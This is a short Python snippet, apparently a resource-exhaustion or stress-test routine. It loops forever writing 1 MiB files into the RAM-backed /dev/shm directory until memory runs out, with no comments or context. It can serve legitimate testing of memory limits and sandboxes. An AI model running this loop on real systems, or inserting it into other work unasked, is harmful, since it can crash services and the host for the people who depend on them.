number = 0
while True:
    with open(f"/dev/shm/{number}", "wb", buffering=0) as file:
        file.write(b"x" * (1 << 20))
    number += 1
